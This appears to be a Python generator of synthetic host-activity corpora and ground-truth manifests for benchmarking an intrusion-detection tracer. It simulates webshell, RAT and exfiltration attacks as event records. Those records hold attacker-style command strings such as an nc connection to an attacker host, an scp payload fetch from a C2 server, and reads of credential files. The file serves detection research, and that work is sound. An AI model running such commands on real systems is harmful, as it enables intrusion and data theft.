"""Deterministic synthetic corpora: benign host activity plus multi-stage attacks.

Every corpus is a canonical JSON-lines event stream.  Alongside it the
generator writes a ground-truth manifest: the attack's entities and edges,
the alerts a correct detector must raise, and the event index at which key
labels should first appear.  Expectations are declared by the attack scripts
as they emit events, not computed by running the detector.
"""

from __future__ import annotations

import json
import random
from dataclasses import asdict, dataclass, field
from enum import Enum
from typing import Iterator, Optional

from .events import EntityId, EntityKind, EventRecord, EventType, ProcessKeyAllocator, serialize_event

NS = 1_000_000_000
T0 = 1_600_000_000 * NS


class InvalidSpec(ValueError):
    pass


class ScenarioName(Enum):
    L1_Webshell = "L1"
    L2_RAT = "L2"
    L3_LotL = "L3"
    E1_InfoExfil_Download = "E1"
    E2_InMemory = "E2"
    BenignOnly = "BENIGN"
    BenignChurn = "CHURN"

    @classmethod
    def parse(cls, text: str) -> "ScenarioName":
        t = text.strip()
        for member in cls:
            if t.upper() in (member.value, member.name.upper()):
                return member
        raise InvalidSpec(f"unknown scenario {text!r}")


DEFAULT_EVENTS = {
    ScenarioName.L1_Webshell: 1_000_000,
    ScenarioName.L2_RAT: 1_000_000,
    ScenarioName.L3_LotL: 1_000_000,
    ScenarioName.E1_InfoExfil_Download: 2_000_000,
    ScenarioName.E2_InMemory: 2_000_000,
    ScenarioName.BenignOnly: 1_000_000,
    ScenarioName.BenignChurn: 60_000,
}


@dataclass(frozen=True)
class ScenarioSpec:
    name: ScenarioName
    seed: int = 7
    benign_event_target: Optional[int] = None
    attack_start_offset: Optional[int] = None

    def __post_init__(self) -> None:
        if not isinstance(self.name, ScenarioName):
            raise InvalidSpec(f"name must be a ScenarioName, got {self.name!r}")
        if self.benign_event_target is not None and self.benign_event_target < 1000:
            raise InvalidSpec("benign_event_target must be at least 1000")
        if self.attack_start_offset is not None:
            if self.attack_start_offset < 0 or self.attack_start_offset >= self.events:
                raise InvalidSpec("attack_start_offset must fall inside the corpus")

    @property
    def events(self) -> int:
        return self.benign_event_target or DEFAULT_EVENTS[self.name]

    @property
    def attack_start(self) -> int:
        if self.attack_start_offset is not None:
            return self.attack_start_offset
        return int(self.events * 0.4)


@dataclass
class GroundTruthManifest:
    scenario: str
    seed: int
    event_count: int = 0
    attack_event_count: int = 0
    attack_entities: list = field(default_factory=list)
    impact_entities: list = field(default_factory=list)
    expected_alerts: list = field(default_factory=list)
    permitted_benign_alerts: list = field(default_factory=list)
    expected_label_timeline: list = field(default_factory=list)
    attack_edges: list = field(default_factory=list)
    apt_process: Optional[str] = None
    apt_ts: Optional[int] = None
    entry: Optional[dict] = None
    generation_profile: dict = field(default_factory=dict)

    def to_json(self) -> str:
        return json.dumps(asdict(self), indent=1, sort_keys=True)

    @classmethod
    def from_json(cls, text: str) -> "GroundTruthManifest":
        raw = json.loads(text)
        for key in ("expected_alerts", "permitted_benign_alerts", "expected_label_timeline"):
            raw[key] = [tuple(x) for x in raw.get(key, [])]
        return cls(**raw)

    @classmethod
    def load(cls, path: str) -> "GroundTruthManifest":
        with open(path, encoding="utf-8") as fh:
            return cls.from_json(fh.read())

    def write(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            fh.write(self.to_json() + "\n")


@dataclass(frozen=True)
class _Profile:
    burst_mean: float           # mean extra repeats in read/write/recv bursts
    weights: dict               # activity -> relative weight
    temp_bursts: bool = False
    busy_rate: float = 400.0    # events per second of event time
    idle_rate: float = 20.0
    busy_secs: float = 90.0
    idle_secs: float = 60.0


_L_WEIGHTS = {
    "web": 30, "browse": 12, "chat": 4, "doc": 6, "shell": 16, "ssh": 3,
    "helper": 2, "logind": 1, "vuln": 5, "compile": 0, "tmpfiles": 0,
}
_E_WEIGHTS = dict(_L_WEIGHTS, web=20, browse=18, shell=22, ssh=5)
_CHURN_WEIGHTS = {"web": 30, "helper": 12, "vuln": 8, "tmpfiles": 6}


def _profile(name: ScenarioName) -> _Profile:
    if name is ScenarioName.BenignChurn:
        return _Profile(1.0, _CHURN_WEIGHTS, busy_rate=100.0, idle_rate=20.0)
    if name in (ScenarioName.E1_InfoExfil_Download, ScenarioName.E2_InMemory):
        w = dict(_E_WEIGHTS)
        temp = name is ScenarioName.E1_InfoExfil_Download
        if temp:
            w.update(compile=6, tmpfiles=6)
        return _Profile(0.8, w, temp_bursts=temp)
    w = dict(_L_WEIGHTS)
    temp = name is ScenarioName.L3_LotL
    if temp:
        w.update(compile=6, tmpfiles=8)
    return _Profile(1.3, w, temp_bursts=temp)


@dataclass
class _Proc:
    pid: int
    id: EntityId
    name: str
    served: int = 0


def _F(path: str) -> EntityId:
    return EntityId.file(path)


def _N(endpoint: str) -> EntityId:
    return EntityId.network(endpoint)


class _World:
    """Emits events for a simulated host with a deterministic clock."""

    def __init__(self, rng: random.Random, profile: _Profile) -> None:
        self.rng = rng
        self.profile = profile
        self.lines: list[str] = []
        self.t = T0
        self.keys = ProcessKeyAllocator()
        self.alive: set = set()
        self._next_pid = 300
        self.recording = False
        self.attack_idx: list[int] = []
        self.attack_events: list[EventRecord] = []
        self.alerts: list = []
        self.timeline: list = []
        # index of the first event of the most recent operation
        self.op_start = -1

    # --- clock and emission ---------------------------------------------------

    def _advance(self) -> None:
        p = self.profile
        cycle = p.busy_secs + p.idle_secs
        elapsed = (self.t - T0) / NS
        rate = p.busy_rate if (elapsed % cycle) < p.busy_secs else p.idle_rate
        self.t += max(1, int(self.rng.expovariate(rate) * NS))

    @property
    def count(self) -> int:
        return len(self.lines)

    def emit(self, etype: EventType, proc: _Proc, obj: EntityId, obj_name: str, args: Optional[str] = None) -> int:
        self._advance()
        rec = EventRecord(self.t, etype, proc.id, obj, proc.name, obj_name, args, len(self.lines))
        self.lines.append(serialize_event(rec))
        self.op_start = rec.seq
        if self.recording:
            self.attack_idx.append(rec.seq)
            self.attack_events.append(rec)
        return rec.seq

    def burst(self) -> int:
        return 1 + int(self.rng.expovariate(1.0 / self.profile.burst_mean))

    # --- process lifecycle ----------------------------------------------------

    def _alloc_pid(self) -> int:
        while True:
            pid = self._next_pid
            self._next_pid = 300 if pid >= 32767 else pid + 1
            if pid not in self.alive:
                self.alive.add(pid)
                return pid

    def boot(self, name: str) -> _Proc:
        """A process already running when capture starts."""
        pid = self._alloc_pid()
        return _Proc(pid, EntityId.process(self.keys.fork(pid)), name)

    def fork(self, parent: _Proc) -> _Proc:
        pid = self._alloc_pid()
        child = _Proc(pid, EntityId.process(self.keys.fork(pid)), parent.name)
        self.emit(EventType.E2_Fork, parent, child.id, child.name)
        return child

    def spawn(self, parent: _Proc, image: str, args: Optional[str] = None) -> _Proc:
        child = self.fork(parent)
        self.execute(child, image, args)
        return child

    def execute(self, proc: _Proc, image: str, args: Optional[str] = None) -> None:
        self.emit(EventType.E3_Execute, proc, _F(image), image, args)
        proc.name = image

    def exit(self, proc: _Proc) -> None:
        self.emit(EventType.E9_Exit, proc, proc.id, proc.name)
        self.alive.discard(proc.pid)

    # --- file and network operations -----------------------------------------------

    def _repeat(self, etype: EventType, proc: _Proc, obj: EntityId, name: str, n: int) -> None:
        first = self.count
        for _ in range(n):
            self.emit(etype, proc, obj, name)
        self.op_start = first

    def read(self, proc: _Proc, path: str, n: int = 1) -> None:
        self._repeat(EventType.E0_Read, proc, _F(path), path, n)

    def write(self, proc: _Proc, path: str, n: int = 1) -> None:
        self._repeat(EventType.E1_Write, proc, _F(path), path, n)

    def op(self, etype: EventType, proc: _Proc, path: str, args: Optional[str] = None) -> None:
        self.emit(etype, proc, _F(path), path, args)

    def connect(self, proc: _Proc, ep: str) -> None:
        self.emit(EventType.N0_Connect, proc, _N(ep), ep)

    def send(self, proc: _Proc, ep: str, n: int = 1) -> None:
        self._repeat(EventType.N1_Send, proc, _N(ep), ep, n)

    def recv(self, proc: _Proc, ep: str, n: int = 1) -> None:
        self._repeat(EventType.N2_Recv, proc, _N(ep), ep, n)

    # --- expectations -------------------------------------------------------------------

    def expect_alert(self, name: str, proc: _Proc) -> None:
        self.alerts.append((name, proc.id.key))

    def expect_label(self, entity: EntityId, label: str) -> None:
        """The label first appears on the first event of the latest operation."""
        self.timeline.append((str(entity), label, self.op_start))

    def mark_apt(self, m: "GroundTruthManifest", proc: _Proc) -> None:
        self.expect_alert("APT", proc)
        m.apt_process = proc.id.key
        m.apt_ts = self.t

    def mark_entry(self, m: "GroundTruthManifest", entity: EntityId) -> None:
        m.entry = {"entity": str(entity), "ts": self.t}


# --- benign host ------------------------------------------------------------------------

_PAGES = [f"/var/www/html/{d}/page{i}.html" for d in ("docs", "blog", "shop") for i in range(16)]
_SITES = [f"93.184.{i // 8}.{10 + i}:443" for i in range(24)]
_CLIENTS = [f"172.16.{i // 16}.{20 + i}:80" for i in range(48)]
_VCLIENTS = [f"172.16.9.{40 + i}:29273" for i in range(12)]
_SRC = [f"/home/alice/src/proj/mod{i // 10}/f{i}.c" for i in range(120)]
_DOCS = [f"/home/alice/Documents/report{i}.odt" for i in range(16)]
_CACHE = [f"/home/alice/.cache/mozilla/firefox/cache2/entries/{i:08X}" for i in range(0, 96 * 7919, 7919)]
_CHAT_LOGS = [f"/home/alice/.purple/logs/jabber/alice/buddy{i}.html" for i in range(10)]
_HELPER_IMAGES = [
    ("/lib/systemd/systemd-tmpfiles", "/etc/tmpfiles.d/tmp.conf"),
    ("/lib/systemd/systemd-hostnamed", "/etc/hostname"),
    ("/lib/systemd/systemd-timedated", "/etc/timezone"),
    ("/usr/lib/apt/apt.systemd.daily", "/etc/apt/apt.conf.d/10periodic"),
    ("/usr/sbin/anacron", "/etc/anacrontab"),
]
_COMMANDS = [
    ("/bin/ls", None), ("/bin/grep", "grep -rn TODO"), ("/usr/bin/vim", None),
    ("/usr/bin/git", "git status"), ("/usr/bin/wc", None), ("/usr/bin/less", None),
]
_SSH_ADMINS = [f"10.20.0.{5 + i}:22" for i in range(6)]
VULN_PORT = 29273


class _Host:
    def __init__(self, w: _World, shells: bool) -> None:
        self.w = w
        rng = w.rng
        self.shells = shells
        self.systemd = w.boot("/lib/systemd/systemd")
        self.apache = w.spawn(self.systemd, "/usr/sbin/apache2", "apache2 -k start")
        w.read(self.apache, "/etc/apache2/apache2.conf")
        self.workers = [self._new_worker() for _ in range(6)]
        self.cron = w.spawn(self.systemd, "/usr/sbin/cron", "cron -f")
        w.read(self.cron, "/etc/crontab")
        self.logind = w.spawn(self.systemd, "/lib/systemd/systemd-logind")
        self.sshd = w.spawn(self.systemd, "/usr/sbin/sshd", "sshd -D")
        self.vuln = w.spawn(self.systemd, "/opt/vulnsvc/bin/vulnd", f"vulnd --port {VULN_PORT}")
        self.session = w.spawn(self.systemd, "/usr/bin/gnome-session")
        self.firefox = w.spawn(self.session, "/usr/lib/firefox/firefox")
        w.op(EventType.E15_Mmap, self.firefox, "/usr/lib/firefox/libxul.so")
        self.pidgin = w.spawn(self.session, "/usr/bin/pidgin")
        self.office = w.spawn(self.session, "/usr/lib/libreoffice/program/soffice.bin")
        self.terminal = w.spawn(self.session, "/usr/bin/gnome-terminal-server")
        self.bash = w.spawn(self.terminal, "/bin/bash") if shells else None
        self.tmp_counter = rng.randrange(10_000, 90_000)
        self.pts_next = 2
        self.extractor: Optional[_Proc] = None

    recycle = 120

    def _new_worker(self) -> _Proc:
        p = self.w.fork(self.apache)
        p.served = 0
        return p

    def _tmpname(self, prefix: str) -> str:
        self.tmp_counter += self.w.rng.randrange(1, 97)
        return f"{prefix}{self.tmp_counter:x}"

    # each activity emits one short, self-contained burst of events

    def web(self) -> None:
        w, rng = self.w, self.w.rng
        i = rng.randrange(len(self.workers))
        wk = self.workers[i]
        client = rng.choice(_CLIENTS)
        w.recv(wk, client, w.burst())
        w.read(wk, rng.choice(_PAGES), w.burst())
        w.send(wk, client, w.burst())
        w.write(wk, "/var/log/apache2/access.log")
        wk.served += 1
        if wk.served >= self.recycle + rng.randrange(self.recycle):
            w.exit(wk)
            self.workers[i] = self._new_worker()

    def browse(self) -> None:
        w, rng = self.w, self.w.rng
        site = rng.choice(_SITES)
        w.connect(self.firefox, site)
        w.recv(self.firefox, site, w.burst() + rng.randrange(4))
        entry = rng.choice(_CACHE)
        if rng.random() < 0.5:
            w.write(self.firefox, entry, w.burst())
        else:
            w.read(self.firefox, entry, w.burst())

    def chat(self) -> None:
        w, rng = self.w, self.w.rng
        w.recv(self.pidgin, "192.0.2.80:5222", w.burst())
        w.write(self.pidgin, rng.choice(_CHAT_LOGS), w.burst())

    def doc(self) -> None:
        w, rng = self.w, self.w.rng
        d = rng.choice(_DOCS)
        lock = d.rsplit("/", 1)[0] + "/.~lock." + d.rsplit("/", 1)[1] + "#"
        w.read(self.office, d, w.burst())
        w.op(EventType.E7_Create, self.office, lock)
        w.write(self.office, d, w.burst())
        w.op(EventType.E5_Delete, self.office, lock)

    def shell(self) -> None:
        if self.bash is None:
            return
        w, rng = self.w, self.w.rng
        image, args = rng.choice(_COMMANDS)
        c = w.spawn(self.bash, image, args)
        for _ in range(1 + rng.randrange(3)):
            w.read(c, rng.choice(_SRC), w.burst())
        if image == "/usr/bin/vim":
            w.write(c, rng.choice(_SRC), w.burst())
        w.exit(c)

    def ssh(self) -> None:
        if not self.shells:
            return
        w, rng = self.w, self.w.rng
        admin = rng.choice(_SSH_ADMINS)
        w.recv(self.sshd, admin)
        sess = w.fork(self.sshd)
        sh = w.spawn(sess, "/bin/bash")
        pts = f"/dev/pts/{self.pts_next}"
        self.pts_next = 2 + (self.pts_next - 1) % 8
        cmd = w.spawn(sh, "/usr/bin/uptime")
        w.read(cmd, "/proc/loadavg")
        w.write(cmd, pts, w.burst())
        w.exit(cmd)
        w.write(sh, pts, w.burst())
        w.read(sess, pts, w.burst())
        w.send(sess, admin, w.burst())
        w.exit(sh)
        w.exit(sess)

    def helper(self) -> None:
        w, rng = self.w, self.w.rng
        image, conf = rng.choice(_HELPER_IMAGES)
        h = w.spawn(self.systemd, image)
        w.read(h, conf, w.burst())
        w.op(EventType.E4_LoadLibrary, h, "/lib/x86_64-linux-gnu/libsystemd-shared.so")
        w.write(h, "/run/systemd/" + image.rsplit("/", 1)[1] + ".state")
        w.exit(h)

    def logind_poll(self) -> None:
        # legitimate reader of /etc/passwd; never writes
        self.w.read(self.logind, "/etc/passwd")
        self.w.read(self.logind, "/run/systemd/seats/seat0")

    def vuln_serve(self) -> None:
        w, rng = self.w, self.w.rng
        client = rng.choice(_VCLIENTS)
        w.recv(self.vuln, client, w.burst())
        w.read(self.vuln, "/opt/vulnsvc/data/catalog.db", w.burst())
        if self.w.profile.temp_bursts or rng.random() < 0.3:
            sess = self._tmpname("/var/lib/vulnsvc/sess_")
            w.op(EventType.E7_Create, self.vuln, sess)
            w.write(self.vuln, sess)
        w.send(self.vuln, client, w.burst())

    def compile(self) -> None:
        if self.bash is None:
            return
        w, rng = self.w, self.w.rng
        gcc = w.spawn(self.bash, "/usr/bin/gcc", "gcc -c -O2")
        for _ in range(1 + rng.randrange(3)):
            src = rng.choice(_SRC)
            asm = self._tmpname("/tmp/cc") + ".s"
            obj = self._tmpname("/tmp/cc") + ".o"
            w.read(gcc, src, w.burst())
            w.op(EventType.E7_Create, gcc, asm)
            w.write(gcc, asm, w.burst() + 2)
            w.read(gcc, asm, w.burst())
            w.op(EventType.E7_Create, gcc, obj)
            w.write(gcc, obj, w.burst())
            w.op(EventType.E5_Delete, gcc, asm)
        w.exit(gcc)

    def tmpfiles(self) -> None:
        w, rng = self.w, self.w.rng
        if self.extractor is None:
            self.extractor = w.spawn(self.systemd, "/usr/lib/x86_64-linux-gnu/tracker-extract")
        h = self.extractor
        for _ in range(2 + rng.randrange(4)):
            f = self._tmpname("/tmp/tracker-extract-")
            w.op(EventType.E7_Create, h, f)
            w.write(h, f, w.burst())

    def step(self) -> None:
        acts = self._acts
        getattr(self, acts[self.w.rng.choices(range(len(acts)), self._wts)[0]])()

    def configure(self, weights: dict) -> None:
        names = {"web": "web", "browse": "browse", "chat": "chat", "doc": "doc", "shell": "shell",
                 "ssh": "ssh", "helper": "helper", "logind": "logind_poll", "vuln": "vuln_serve",
                 "compile": "compile", "tmpfiles": "tmpfiles"}
        pairs = [(names[k], v) for k, v in weights.items() if v > 0]
        self._acts = [a for a, _ in pairs]
        self._wts = [v for _, v in pairs]


# --- attack scripts -----------------------------------------------------------------------
# Each script is a generator; every ``yield`` is a step boundary at which benign
# activity is interleaved.

ATTACKER = "198.51.100.23:4444"
C2 = "203.0.113.50:443"


def _sensitive_tail(w: _World, k: _Proc, alerts_on_fork: list) -> Iterator[None]:
    """Credential and persistence tampering by cron's shell, then exfiltration."""
    w.write(k, "/etc/crontab")
    w.expect_label(k.id, "PB6")
    w.expect_alert("Suspicious Behavior", k)
    w.write(k, "/etc/sudoers")
    w.expect_label(k.id, "PB7")
    yield
    w.read(k, "/etc/passwd")
    w.expect_label(k.id, "PS6")
    w.read(k, "/root/.bash_history")
    w.expect_label(k.id, "PS7")
    w.op(EventType.E7_Create, k, "/tmp/secret")
    w.write(k, "/tmp/secret")
    w.expect_label(_F("/tmp/secret"), "FH5")
    yield
    k2 = w.fork(k)
    for name in alerts_on_fork:
        w.expect_alert(name, k2)
    w.expect_alert("Suspicious Behavior", k2)
    return k2


def _cron_job(w: _World, host: _Host) -> _Proc:
    k = w.fork(host.cron)
    w.execute(k, "/bin/sh", "/bin/sh /tmp/cleanup.sh")
    w.expect_label(k.id, "PB5")
    return k


def _script_l1(w: _World, host: _Host, m: GroundTruthManifest) -> Iterator[None]:
    wx = host.workers[0]
    w.recv(wx, ATTACKER)
    w.mark_entry(m, _N(ATTACKER))
    w.recv(wx, ATTACKER, 2)
    host.workers[0] = host._new_worker()
    w.op(EventType.E7_Create, wx, "/var/www/html/uploads/shell.php")
    w.expect_label(_F("/var/www/html/uploads/shell.php"), "FU1")
    w.write(wx, "/var/www/html/uploads/shell.php", 2)
    w.expect_label(_F("/var/www/html/uploads/shell.php"), "FU2")
    yield
    w.read(wx, "/var/www/html/uploads/shell.php")
    w.expect_label(wx.id, "PS4")
    c1 = w.fork(wx)
    w.expect_label(wx.id, "PB4")
    w.expect_alert("Webshell", wx)
    w.execute(c1, "/bin/sh", "sh -c id;cd /tmp")
    w.expect_alert("Webshell", c1)
    w.recv(wx, ATTACKER)
    w.op(EventType.E11_Open, c1, "/tmp/cleanup.sh")
    w.write(c1, "/tmp/cleanup.sh")
    w.expect_label(_F("/tmp/cleanup.sh"), "FU4")
    w.send(wx, ATTACKER)
    yield
    k = _cron_job(w, host)
    w.read(k, "/tmp/cleanup.sh")
    w.expect_label(k.id, "PS4")
    yield
    k1 = w.fork(k)
    w.expect_label(k.id, "PB4")
    w.expect_alert("Webshell", k)
    w.execute(k1, "/bin/nc", f"nc {ATTACKER.split(':')[0]} 4444")
    w.expect_label(k1.id, "PB2")
    w.expect_alert("Webshell", k1)
    w.connect(k1, ATTACKER)
    w.recv(k1, ATTACKER, 2)
    yield
    k2 = yield from _sensitive_tail(w, k, [])
    w.execute(k2, "/bin/cat", "cat /tmp/secret")
    w.expect_alert("Webshell", k2)
    w.read(k2, "/tmp/secret")
    w.expect_label(k2.id, "PB8")
    w.expect_alert("Data Exfiltration", k2)
    w.mark_apt(m, k2)
    w.connect(k2, ATTACKER)
    w.send(k2, ATTACKER, 2)
    m.attack_entities = [str(x) for x in (
        _N(ATTACKER), wx.id, _F("/var/www/html/uploads/shell.php"), c1.id, _F("/tmp/cleanup.sh"),
        k.id, _F("/etc/passwd"), _F("/root/.bash_history"), _F("/tmp/secret"), k2.id)]
    m.impact_entities = [str(x) for x in (k1.id, _F("/etc/crontab"), _F("/etc/sudoers"))]


def _script_l2(w: _World, host: _Host, m: GroundTruthManifest) -> Iterator[None]:
    ff = host.firefox
    elf = "/home/alice/Downloads/vpn.elf"
    w.connect(ff, C2)
    w.mark_entry(m, _N(C2))
    w.recv(ff, C2, 4)
    w.op(EventType.E7_Create, ff, elf)
    w.write(ff, elf, 3)
    w.expect_label(_F(elf), "FU2")
    yield
    cm = w.spawn(host.bash, "/bin/chmod", f"chmod +x {elf}")
    w.op(EventType.E8_FileProperty, cm, elf, "+x")
    w.exit(cm)
    r = w.fork(host.bash)
    w.execute(r, elf)
    w.expect_label(r.id, "PB1")
    w.expect_alert("Download&Execution", r)
    w.expect_alert("RAT", r)
    w.connect(r, C2)
    w.recv(r, C2, 2)
    yield
    w.write(r, "/tmp/cleanup.sh")
    w.expect_label(_F("/tmp/cleanup.sh"), "FU5")
    w.send(r, C2)
    yield
    k = _cron_job(w, host)
    w.read(k, "/tmp/cleanup.sh")
    w.expect_label(k.id, "PB1")
    w.expect_alert("Download&Execution", k)
    w.expect_alert("RAT", k)
    yield
    k2 = yield from _sensitive_tail(w, k, [])
    w.execute(k2, "/bin/cat", "cat /tmp/secret")
    w.read(k2, "/tmp/secret")
    w.expect_label(k2.id, "PB8")
    w.expect_alert("Download&Execution", k2)
    w.expect_alert("RAT", k2)
    w.expect_alert("Data Exfiltration", k2)
    w.mark_apt(m, k2)
    w.connect(k2, C2)
    w.send(k2, C2, 2)
    m.attack_entities = [str(x) for x in (
        _N(C2), ff.id, _F(elf), r.id, _F("/tmp/cleanup.sh"), k.id, _F("/etc/passwd"), _F("/tmp/secret"), k2.id)]
    m.impact_entities = [str(x) for x in (cm.id, _F("/etc/crontab"), _F("/etc/sudoers"))]


def _script_l3(w: _World, host: _Host, m: GroundTruthManifest) -> Iterator[None]:
    v = host.vuln
    w.recv(v, ATTACKER)
    w.mark_entry(m, _N(ATTACKER))
    w.recv(v, ATTACKER)
    w.read(v, "(null)")
    w.expect_label(_F("(null)"), "FU3")
    w.expect_label(v.id, "PS5")
    yield
    s = w.fork(v)
    w.execute(s, "/bin/sh", "sh -i")
    w.expect_label(s.id, "PB5")
    w.expect_alert("Living-off-the-land", s)
    w.send(v, ATTACKER)
    w.write(s, "/tmp/cleanup.sh")
    w.expect_label(_F("/tmp/cleanup.sh"), "FU6")
    yield
    k = _cron_job(w, host)
    w.read(k, "/tmp/cleanup.sh")
    w.expect_label(k.id, "PS5")
    w.expect_alert("Living-off-the-land", k)
    yield
    k2 = yield from _sensitive_tail(w, k, ["Living-off-the-land"])
    w.execute(k2, "/bin/cat", "cat /tmp/secret")
    w.read(k2, "/tmp/secret")
    w.expect_label(k2.id, "PB8")
    w.expect_alert("Data Exfiltration", k2)
    w.mark_apt(m, k2)
    w.connect(k2, ATTACKER)
    w.send(k2, ATTACKER, 2)
    m.attack_entities = [str(x) for x in (
        _N(ATTACKER), v.id, _F("(null)"), s.id, _F("/tmp/cleanup.sh"), k.id, _F("/etc/passwd"),
        _F("/tmp/secret"), k2.id)]
    m.impact_entities = [str(x) for x in (_F("/etc/crontab"), _F("/etc/sudoers"))]


def _script_e1(w: _World, host: _Host, m: GroundTruthManifest) -> Iterator[None]:
    w.recv(host.sshd, ATTACKER)
    w.mark_entry(m, _N(ATTACKER))
    sx = w.fork(host.sshd)
    bx = w.spawn(sx, "/bin/bash")
    w.expect_label(bx.id, "PB5")
    yield
    c = w.spawn(bx, "/bin/cat", "cat /etc/passwd")
    w.read(c, "/etc/passwd")
    w.expect_label(c.id, "PS6")
    w.expect_alert("Suspicious Behavior", c)
    w.write(c, "/dev/pts/1")
    w.expect_label(_F("/dev/pts/1"), "FH5")
    w.read(sx, "/dev/pts/1")
    w.expect_label(sx.id, "PB8")
    w.expect_alert("Data Exfiltration", sx)
    w.send(sx, ATTACKER, 2)
    w.exit(c)
    yield
    d = w.spawn(bx, "/usr/bin/scp", f"scp attacker@{C2.split(':')[0]}:ccleaner /tmp/ccleaner")
    w.connect(d, C2)
    w.recv(d, C2, 5)
    w.op(EventType.E7_Create, d, "/tmp/ccleaner")
    w.write(d, "/tmp/ccleaner", 4)
    w.expect_label(_F("/tmp/ccleaner"), "FU2")
    w.exit(d)
    yield
    e = w.fork(bx)
    w.execute(e, "/tmp/ccleaner")
    w.expect_label(e.id, "PB1")
    w.expect_alert("Download&Execution", e)
    w.expect_alert("RAT", e)
    f = w.spawn(e, "/usr/bin/dbus-daemon", "dbus-daemon --session")
    w.read(f, "/etc/passwd")
    w.expect_alert("Suspicious Behavior", f)
    yield
    w.read(e, "/etc/passwd")
    w.expect_alert("Suspicious Behavior", e)
    w.op(EventType.E7_Create, e, "/tmp/ext96481")
    w.write(e, "/tmp/ext96481", 2)
    w.expect_label(_F("/tmp/ext96481"), "FH5")
    w.read(e, "/tmp/ext96481")
    w.expect_label(e.id, "PB8")
    w.expect_alert("Data Exfiltration", e)
    w.mark_apt(m, e)
    w.connect(e, ATTACKER)
    w.send(e, ATTACKER, 3)
    m.attack_entities = [str(x) for x in (
        _N(C2), d.id, _F("/tmp/ccleaner"), e.id, bx.id, _F("/etc/passwd"), _F("/tmp/ext96481"))]
    m.impact_entities = [str(x) for x in (sx.id, c.id, f.id, _F("/dev/pts/1"))]


def _script_e2(w: _World, host: _Host, m: GroundTruthManifest) -> Iterator[None]:
    ff = host.firefox
    w.connect(ff, C2)
    w.mark_entry(m, _N(C2))
    w.recv(ff, C2, 3)
    w.op(EventType.E7_Create, ff, "/tmp/libnet.so")
    w.write(ff, "/tmp/libnet.so", 2)
    w.expect_label(_F("/tmp/libnet.so"), "FU2")
    w.op(EventType.E8_FileProperty, ff, "/dev/glx_alsa_675", "mknod")
    yield
    w.recv(host.sshd, ATTACKER)
    d1 = w.fork(host.sshd)
    w.op(EventType.E4_LoadLibrary, d1, "/tmp/libnet.so")
    w.read(d1, "(null)")
    w.expect_label(d1.id, "PS5")
    yield
    s = w.fork(d1)
    w.execute(s, "/bin/sh")
    w.expect_alert("Living-off-the-land", s)
    s1 = w.fork(s)
    w.expect_alert("Living-off-the-land", s1)
    w.execute(s1, "/usr/bin/scp", f"scp {C2.split(':')[0]}:hc /tmp/hc")
    w.connect(s1, C2)
    w.recv(s1, C2, 4)
    w.op(EventType.E7_Create, s1, "/tmp/hc")
    w.write(s1, "/tmp/hc", 3)
    w.expect_label(_F("/tmp/hc"), "FU2")
    w.expect_label(_F("/tmp/hc"), "FU6")
    yield
    s2 = w.fork(s)
    w.expect_alert("Living-off-the-land", s2)
    w.execute(s2, "/tmp/hc")
    w.expect_label(s2.id, "PB1")
    w.expect_alert("Download&Execution", s2)
    w.expect_alert("RAT", s2)
    yield
    w.read(s2, "/etc/passwd")
    w.expect_alert("Suspicious Behavior", s2)
    w.op(EventType.E7_Create, s2, "/tmp/.hc_out")
    w.write(s2, "/tmp/.hc_out")
    w.read(s2, "/tmp/.hc_out")
    w.expect_label(s2.id, "PB8")
    w.expect_alert("Data Exfiltration", s2)
    w.mark_apt(m, s2)
    w.connect(s2, ATTACKER)
    w.send(s2, ATTACKER, 2)
    m.attack_entities = [str(x) for x in (
        _F("(null)"), d1.id, s.id, s1.id, _F("/tmp/hc"), s2.id, _F("/etc/passwd"), _F("/tmp/.hc_out"))]
    m.impact_entities = [str(x) for x in (_F("/tmp/libnet.so"), _F("/dev/glx_alsa_675"))]


_SCRIPTS = {
    ScenarioName.L1_Webshell: _script_l1,
    ScenarioName.L2_RAT: _script_l2,
    ScenarioName.L3_LotL: _script_l3,
    ScenarioName.E1_InfoExfil_Download: _script_e1,
    ScenarioName.E2_InMemory: _script_e2,
}


def _flow_connected(events: list[EventRecord], apt: Optional[str], apt_ts: Optional[int],
                    entry: Optional[dict]) -> list[int]:
    """Attack events on a time-respecting flow path from the entry or into the APT process.

    Brute force over the attack events only; used to declare the manifest's
    attack edges independently of the tracer.
    """
    flows = [e for e in events if e.etype is not EventType.E9_Exit]
    keep: set = set()
    if apt is not None:
        # latest time each entity can still influence the APT process
        bound = {EntityId.process(apt): apt_ts + 1}
        for e in sorted(flows, key=lambda x: (x.ts, x.seq), reverse=True):
            # a remote endpoint is an information source; flow into it does not come back
            if e.target.kind is EntityKind.NETWORK:
                continue
            b = bound.get(e.target)
            if b is not None and e.ts < b:
                keep.add(e.seq)
                if e.ts > bound.get(e.source, -1):
                    bound[e.source] = e.ts
    if entry is not None:
        reach = {EntityId.parse(entry["entity"]): entry["ts"] - 1}
        for e in sorted(flows, key=lambda x: (x.ts, x.seq)):
            b = reach.get(e.source)
            if b is not None and e.ts > b:
                keep.add(e.seq)
                if e.target not in reach or e.ts < reach[e.target]:
                    reach[e.target] = e.ts
    return sorted(keep)


def generate_lines(spec: ScenarioSpec) -> tuple[list[str], GroundTruthManifest]:
    profile = _profile(spec.name)
    rng = random.Random(f"{spec.name.value}:{spec.seed}")
    w = _World(rng, profile)
    churn = spec.name is ScenarioName.BenignChurn
    host = _Host(w, shells=not churn)
    host.configure(profile.weights)
    m = GroundTruthManifest(scenario=spec.name.value, seed=spec.seed)
    m.generation_profile = {
        "busy_rate": profile.busy_rate, "idle_rate": profile.idle_rate,
        "busy_secs": profile.busy_secs, "idle_secs": profile.idle_secs,
    }
    if spec.name in (ScenarioName.L1_Webshell, ScenarioName.L2_RAT, ScenarioName.L3_LotL):
        # a routine run of the maintenance script before it is tampered with
        k0 = w.fork(host.cron)
        w.execute(k0, "/bin/sh", "/bin/sh /tmp/cleanup.sh")
        w.read(k0, "/tmp/cleanup.sh")
        rm = w.spawn(k0, "/bin/rm", "rm -f /tmp/*.bak")
        w.exit(rm)
        w.exit(k0)

    target = spec.events
    script = _SCRIPTS.get(spec.name)
    steps = None
    next_step = target + 1
    spacing = 1
    if script is not None:
        steps = script(w, host, m)
        next_step = spec.attack_start
        spacing = max(1, int(target * 0.25) // 8)
    while w.count < target or steps is not None:
        if steps is not None and w.count >= next_step:
            w.recording = True
            try:
                next(steps)
                next_step = w.count + spacing
            except StopIteration:
                steps = None
            w.recording = False
            continue
        host.step()

    m.event_count = w.count
    m.attack_event_count = len(w.attack_idx)
    m.expected_alerts = list(w.alerts)
